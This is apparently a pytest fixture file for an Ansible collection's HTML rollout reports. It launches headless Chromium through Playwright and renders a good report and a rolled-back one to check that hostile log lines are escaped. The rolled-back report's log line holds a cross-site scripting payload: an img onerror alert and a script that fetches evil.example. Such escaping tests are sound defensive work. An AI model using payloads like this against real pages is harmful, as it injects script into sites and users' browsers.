# Copyright (c) 2026 Cowboy AI, LLC
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A headless Chromium, and reports to look at with it: one that went well, one that was rolled back."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from ansible_collections.cowboyai.rollout.plugins.plugin_utils._html import write_html
from playwright.sync_api import Browser, Dialog, Page, sync_playwright

from tests.unit.plugins.plugin_utils.constructed import Made, construct

WHERE = ("chromium", "chromium-browser", "google-chrome")


def chromium() -> str:
    """The browser of the machine: Playwright's own ones come from a host that not everybody reaches."""
    for name in WHERE:
        found = shutil.which(name)
        if found:
            return found
    raise FileNotFoundError(
        f"no browser: none of {', '.join(WHERE)} is in PATH. ./bootstrap installs Debian's chromium."
    )


@pytest.fixture(scope="session")
def browser() -> Iterator[Browser]:
    # A browser that runs as root has no sandbox; it opens nothing but pages that we have just written.
    arguments = ["--no-sandbox"] if os.geteuid() == 0 else []
    with sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=chromium(), args=arguments)
        yield started
        started.close()


@pytest.fixture(scope="session", params=["good", "bad"])
def report(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report of a whole day that went well, and of one that was rolled back with hostile log lines."""
    folder = tmp_path_factory.mktemp(request.param)
    if request.param == "good":
        made = Made(folder, hours=12.0, trends=True)
    else:
        line = "<img src=https://evil.example/x onerror=alert(1)> ]]> <script>fetch('https://evil.example')</script>"
        made = Made(folder, hours=12.0, bad_at_h=9.2, low_rate=False, rehearsal=True, trends=True, log_line=line)
    return write_html(construct(made))


@dataclass
class Opened:
    """A page with all that it said and asked for while it was open."""

    page: Page
    said: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    def refuse(self, dialog: Dialog) -> None:
        self.said.append(f"dialog: {dialog.message}")
        dialog.dismiss()


@pytest.fixture
def open_page(browser: Browser) -> Iterator[Callable[..., Opened]]:
    contexts = []

    def opened(path: Path, width: int = 1366, height: int = 768, scheme: str = "light", script: bool = True) -> Opened:
        context = browser.new_context(
            viewport={"width": width, "height": height},
            color_scheme="dark" if scheme == "dark" else "light",
            java_script_enabled=script,
        )
        contexts.append(context)
        made = Opened(context.new_page())
        made.page.on("console", lambda message: made.said.append(f"{message.type}: {message.text}"))
        made.page.on("pageerror", lambda error: made.said.append(str(error)))
        made.page.on("dialog", made.refuse)
        made.page.on("request", lambda request: made.asked.append(request.url))
        made.page.goto(path.as_uri())
        return made

    yield opened
    for context in contexts:
        context.close()
